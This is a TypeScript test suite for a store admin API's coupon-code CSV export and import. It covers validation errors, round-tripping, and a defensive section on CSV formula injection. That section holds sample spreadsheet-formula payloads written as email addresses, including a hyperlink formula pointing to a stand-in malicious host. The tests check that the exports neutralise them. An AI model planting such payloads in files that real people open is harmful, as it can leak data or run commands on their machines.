import { httpSuite } from "./fixtures/http-suite"
import { parse } from "csv-parse/sync"
import { createCouponViaApi, fail, waitForBatch } from "./fixtures/admin"
import { applyCode, completeCart, createCart } from "./fixtures/checkout"
import { createStoreFixture, StoreFixture } from "./fixtures/store"

const EXPORT_HEADER = "code,status,usage_count,usage_limit,expires_at,batch_id,assigned_email"

export default httpSuite(({ api, getContainer: _getContainer }) => {
  let store: StoreFixture

  beforeEach(async () => {
    store = await createStoreFixture(_getContainer())
  })

  const exportCodes = async (couponId: string) => {
    const response = await api.get(`/admin/coupons/${couponId}/codes/export`, { ...store.adminHeaders, responseType: "text" })
    return { response, text: response.data as string }
  }
  const rowsOf = (csv: string) => parse(csv, { columns: true }) as Record<string, string>[]
  const importCsv = (couponId: string, csv: string) => api.post(`/admin/coupons/${couponId}/codes/import`, { csv }, store.adminHeaders)
  const codeCount = async (couponId: string) => (await api.get(`/admin/coupons/${couponId}/codes?limit=1`, store.adminHeaders)).data.count

  describe("GET /admin/coupons/:id/codes/export", () => {
    it("should stream every code with a header row, code first, across several pages", async () => {
      const coupon = await createCouponViaApi(api, store)
      await api.post(
        `/admin/coupons/${coupon.id}/codes`,
        {
          codes: [
            { code: "VIP-1", usage_limit: 3, assigned_email: "vip@example.com", expires_at: "2031-05-01T10:00:00Z" },
            { code: "VIP-2" },
          ],
        },
        store.adminHeaders
      )
      const { data } = await api.post(
        `/admin/coupons/${coupon.id}/code-batches`,
        { count: 12_000, prefix: "EXP-", length: 10 },
        store.adminHeaders
      )
      await waitForBatch(api, store, coupon.id, data.batch.id)

      const { response, text } = await exportCodes(coupon.id)
      expect(response.status).toBe(200)
      expect(response.headers["content-type"]).toContain("text/csv")
      expect(response.headers["content-disposition"]).toContain(`coupon-${coupon.id}-codes.csv`)
      expect(text.split("\n")[0]).toBe(EXPORT_HEADER)
      const rows = rowsOf(text)
      expect(rows).toHaveLength(12_002)
      expect(new Set(rows.map((row) => row.code)).size).toBe(12_002)
      expect(rows.find((row) => row.code === "VIP-1")).toEqual({
        code: "VIP-1",
        status: "active",
        usage_count: "0",
        usage_limit: "3",
        expires_at: "2031-05-01T10:00:00.000Z",
        batch_id: "",
        assigned_email: "vip@example.com",
      })
      expect(rows.find((row) => row.code === "VIP-2")?.usage_limit).toBe("")
      expect(rows.filter((row) => row.batch_id === data.batch.id)).toHaveLength(12_000)
      expect((await fail(api.get("/admin/coupons/cpn_missing/codes/export", store.adminHeaders))).status).toBe(404)
    })

    it("should export only the header for a coupon without codes", async () => {
      const coupon = await createCouponViaApi(api, store)
      expect((await exportCodes(coupon.id)).text.trim()).toBe(EXPORT_HEADER)
    })
  })

  describe("POST /admin/coupons/:id/codes/import", () => {
    it("should import every row with its limit, expiry, email and status", async () => {
      const coupon = await createCouponViaApi(api, store)
      const csv = [
        "code,usage_limit,expires_at,assigned_email,status",
        "imp-1,1,2031-01-01T00:00:00Z,Ann@Example.com,",
        "IMP-2,,,,disabled",
        " imp-3 ,5,,,active",
      ].join("\n")
      const { status, data } = await importCsv(coupon.id, csv)
      expect(status).toBe(200)
      expect(data).toEqual({ imported: 3 })
      const rows = rowsOf((await exportCodes(coupon.id)).text)
      const byCode = Object.fromEntries(rows.map((row) => [row.code, row]))
      expect(byCode["IMP-1"]).toEqual(
        expect.objectContaining({
          usage_limit: "1",
          expires_at: "2031-01-01T00:00:00.000Z",
          assigned_email: "ann@example.com",
          status: "active",
        })
      )
      expect(byCode["IMP-2"]).toEqual(expect.objectContaining({ usage_limit: "", status: "disabled" }))
      expect(byCode["IMP-3"].usage_limit).toBe("5")
    })

    it("should import nothing when one row is bad and name its line", async () => {
      const coupon = await createCouponViaApi(api, store)
      const csv = ["code,usage_limit", "GOOD-1,1", "GOOD-2,2", "BAD CODE,1", "GOOD-3,"].join("\n")
      const response = await fail(importCsv(coupon.id, csv))
      expect(response.status).toBe(400)
      expect(response.data.type).toBe("invalid_data")
      expect(response.data.errors).toEqual([{ line: 4, code: "BAD CODE", error: expect.stringContaining("code is not valid") }])
      expect(response.data.message).toContain("line 4")
      expect(await codeCount(coupon.id)).toBe(0)
    })

    it("should report duplicates in the file, duplicates in the store and bad values, each with its line", async () => {
      const owner = await createCouponViaApi(api, store, { name: "Owner", code: "STORED-1" })
      const coupon = await createCouponViaApi(api, store)
      const csv = [
        "code,usage_limit,expires_at,assigned_email",
        "NEW-1,,,",
        "new-1,,,",
        "stored-1,,,",
        "NEW-2,0,,",
        "NEW-3,,someday,",
        "NEW-4,,,not-an-email",
      ].join("\n")
      const response = await fail(importCsv(coupon.id, csv))
      expect(response.status).toBe(400)
      expect(response.data.errors).toEqual([
        { line: 3, code: "NEW-1", error: expect.stringContaining("duplicate in file") },
        { line: 4, code: "STORED-1", error: expect.stringContaining("duplicate in store") },
        { line: 5, code: "NEW-2", error: expect.stringContaining("usage_limit") },
        { line: 6, code: "NEW-3", error: expect.stringContaining("expires_at") },
        { line: 7, code: "NEW-4", error: expect.stringContaining("assigned_email") },
      ])
      expect(await codeCount(coupon.id)).toBe(0)
      expect(await codeCount(owner.id)).toBe(1)
    })

    it("should refuse a file without a code column, with unknown columns, or without rows", async () => {
      const coupon = await createCouponViaApi(api, store)
      const noCode = await fail(importCsv(coupon.id, "name\nX\n"))
      expect(noCode.status).toBe(400)
      expect(noCode.data.errors[0]).toEqual(expect.objectContaining({ line: 1, error: expect.stringContaining('"code" column') }))
      expect((await fail(importCsv(coupon.id, "code,colour\nABC,red\n"))).data.errors[0].error).toContain("unknown column: colour")
      expect((await fail(importCsv(coupon.id, "code\n"))).data.errors[0].error).toContain("no codes")
      expect((await fail(api.post(`/admin/coupons/${coupon.id}/codes/import`, { csv: 42 }, store.adminHeaders))).status).toBe(400)
      expect((await fail(api.post(`/admin/coupons/${coupon.id}/codes/import`, {}, store.adminHeaders))).status).toBe(400)
      expect((await fail(importCsv("cpn_missing", "code\nABC-1\n"))).status).toBe(404)
    })

    it("should round-trip an export into another coupon once the original is deleted", async () => {
      const original = await createCouponViaApi(api, store, { name: "Original" })
      await api.post(
        `/admin/coupons/${original.id}/codes`,
        {
          codes: [
            { code: "RT-1", usage_limit: 2, assigned_email: "rt@example.com", expires_at: "2033-03-03T03:03:03Z" },
            { code: "RT-2", usage_limit: null },
          ],
        },
        store.adminHeaders
      )
      const { data: listed } = await api.get(`/admin/coupons/${original.id}/codes?q=RT-2`, store.adminHeaders)
      await api.post(`/admin/coupons/${original.id}/codes/${listed.codes[0].id}`, { status: "disabled" }, store.adminHeaders)
      const { data } = await api.post(`/admin/coupons/${original.id}/code-batches`, { count: 8_000, length: 10 }, store.adminHeaders)
      await waitForBatch(api, store, original.id, data.batch.id)
      const exported = (await exportCodes(original.id)).text

      // codes are unique store-wide: the texts are free once the original coupon is gone
      const taken = await fail(importCsv((await createCouponViaApi(api, store, { name: "Too early" })).id, exported))
      expect(taken.data.errors).toHaveLength(8_002)
      await api.delete(`/admin/coupons/${original.id}`, store.adminHeaders)

      const copy = await createCouponViaApi(api, store, { name: "Copy" })
      expect((await importCsv(copy.id, exported)).data).toEqual({ imported: 8_002 })
      const comparable = (csv: string) =>
        rowsOf(csv)
          .map(({ code, status, usage_limit, expires_at, assigned_email }) =>
            [code, status, usage_limit, expires_at, assigned_email].join("|")
          )
          .sort()
      expect(comparable((await exportCodes(copy.id)).text)).toEqual(comparable(exported))
    })
  })

  describe("formula injection (OWASP CSV injection)", () => {
    // valid email addresses a spreadsheet would run as formulas
    const FORMULA_EMAILS = ['=hyperlink("http://e.vil/?x")@x.com', "+1+2@x.com", "-2+3@x.com", "'=quoted@x.com"]

    it("should prefix assigned emails that begin like a formula with a quote, and import the export back as the same emails", async () => {
      const coupon = await createCouponViaApi(api, store)
      await api.post(
        `/admin/coupons/${coupon.id}/codes`,
        {
          codes: [
            ...FORMULA_EMAILS.map((email, index) => ({ code: `FX-${index}`, assigned_email: email, usage_limit: 2 })),
            { code: "FX-PLAIN", assigned_email: "plain@x.com" },
          ],
        },
        store.adminHeaders
      )
      const exported = (await exportCodes(coupon.id)).text
      const emails = Object.fromEntries(rowsOf(exported).map((row) => [row.code, row.assigned_email]))
      expect(emails).toEqual({
        "FX-0": `'=hyperlink("http://e.vil/?x")@x.com`,
        "FX-1": "'+1+2@x.com",
        "FX-2": "'-2+3@x.com",
        "FX-3": "''=quoted@x.com",
        "FX-PLAIN": "plain@x.com",
      })
      // numbers stay numbers
      expect(rowsOf(exported).every((row) => row.usage_count === "0")).toBe(true)

      await api.delete(`/admin/coupons/${coupon.id}`, store.adminHeaders)
      const copy = await createCouponViaApi(api, store, { name: "Copy" })
      expect((await importCsv(copy.id, exported)).data).toEqual({ imported: 5 })
      const { data } = await api.get(`/admin/coupons/${copy.id}/codes?limit=10&order=code`, store.adminHeaders)
      expect(data.codes.map((code: { assigned_email: string }) => code.assigned_email)).toEqual([...FORMULA_EMAILS, "plain@x.com"])
      // a file saved by a spreadsheet after the user typed the quote reads the same way
      const typed = await createCouponViaApi(api, store, { name: "Typed" })
      expect((await importCsv(typed.id, "code,assigned_email\nTYPED-1,'+typed@x.com\n")).data).toEqual({ imported: 1 })
      expect((await api.get(`/admin/coupons/${typed.id}/codes`, store.adminHeaders)).data.codes[0].assigned_email).toBe("+typed@x.com")
    })

    it("should prefix a redemption's email that begins like a formula in the redemptions export", async () => {
      const coupon = await createCouponViaApi(api, store, { code: "LEDGERCSV" })
      const cart = await createCart(api, store, { email: "-cmd@example.com" })
      expect((await applyCode(api, store, cart, "LEDGERCSV")).status).toBe(200)
      expect((await completeCart(api, store, cart)).data.type).toBe("order")
      const { data: text } = await api.get(`/admin/coupons/${coupon.id}/redemptions/export`, {
        ...store.adminHeaders,
        responseType: "text",
      })
      const [row] = rowsOf(text as string)
      expect(row.email).toBe("'-cmd@example.com")
      expect(row.code).toBe("LEDGERCSV")
      expect(Number(row.discount_amount)).toBeGreaterThan(0)
    })
  })
})
